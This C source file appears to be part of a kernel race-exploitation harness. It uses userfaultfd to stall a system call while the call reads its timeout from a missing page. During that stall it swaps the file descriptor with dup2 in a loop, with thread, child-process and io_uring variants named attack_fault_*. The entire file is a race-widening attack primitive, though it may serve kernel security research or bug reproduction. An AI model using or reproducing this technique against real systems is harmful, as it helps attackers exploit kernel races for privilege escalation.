/* SPDX-License-Identifier: MIT */
/* The timeout of the call lies in a page that is missing: whoever is told exchanges, and only then
 * gives the page. The kernel looks at the timeout before it looks behind the number. Every other
 * call is an ordinary one, since whoever looks into the caller's memory need not wait for a page.
 */
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <stdint.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>

#include "exchange-ring.h"
#include "exchange.h"

#define PAGE 4096
#define LONG 300 /* microseconds, in which a worker has done it */

static int faults;
static char *page;

static void open_page(void)
{
	struct uffdio_api api = {.api = UFFD_API};
	struct uffdio_register registration = {.mode = UFFDIO_REGISTER_MODE_MISSING};

	faults = (int)syscall(SYS_userfaultfd, 0);
	if (faults < 0 || ioctl(faults, UFFDIO_API, &api) < 0)
		cannot("userfaultfd");
	page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (page == MAP_FAILED)
		cannot("mmap");
	registration.range = (struct uffdio_range){(uintptr_t)page, PAGE};
	if (ioctl(faults, UFFDIO_REGISTER, &registration) < 0)
		cannot("UFFDIO_REGISTER");
}

static void serve_faults(void (*exchange)(void))
{
	struct uffdio_zeropage zero = {.range = {(uintptr_t)page, PAGE}};
	struct uffd_msg message;

	while (read(faults, &message, sizeof(message)) == sizeof(message)) {
		exchange();
		(void)ioctl(faults, UFFDIO_ZEROPAGE, &zero);
	}
}

static void call_with_page(int fd)
{
	(void)madvise(page, PAGE, MADV_DONTNEED);
	send_with(fd, (const struct timespec *)page);
}

static void *serve_faults_in_thread(void *unused)
{
	serve_faults(exchange_once);
	return unused;
}

static void take_turns_with_page(void)
{
	for (;;) {
		(void)dup2(kept, number);
		call_with_page(number);
		take_turn();
	}
}

void attack_fault_thread(void)
{
	open_page();
	start_thread(serve_faults_in_thread);
	take_turns_with_page();
}

void attack_fault_child(void)
{
	open_page();
	if (start_child() == 0)
		serve_faults(exchange_once);
	take_turns_with_page();
}

static void trigger_and_wait(void)
{
	ring_trigger();
	spin(LONG);
}

static void call_with_page_and_ring(bool async)
{
	open_page();
	ring_open(0);
	if (start_child() == 0)
		serve_faults(trigger_and_wait);
	for (;;) {
		ring_prepare(async);
		call_with_page(number);
		/* A call that was not made has not read its timeout. */
		(void)*(volatile char *)page;
		ring_finish();
		take_turn();
	}
}

void attack_fault_worker(void)
{
	call_with_page_and_ring(true);
}

void attack_fault_poll(void)
{
	call_with_page_and_ring(false);
}
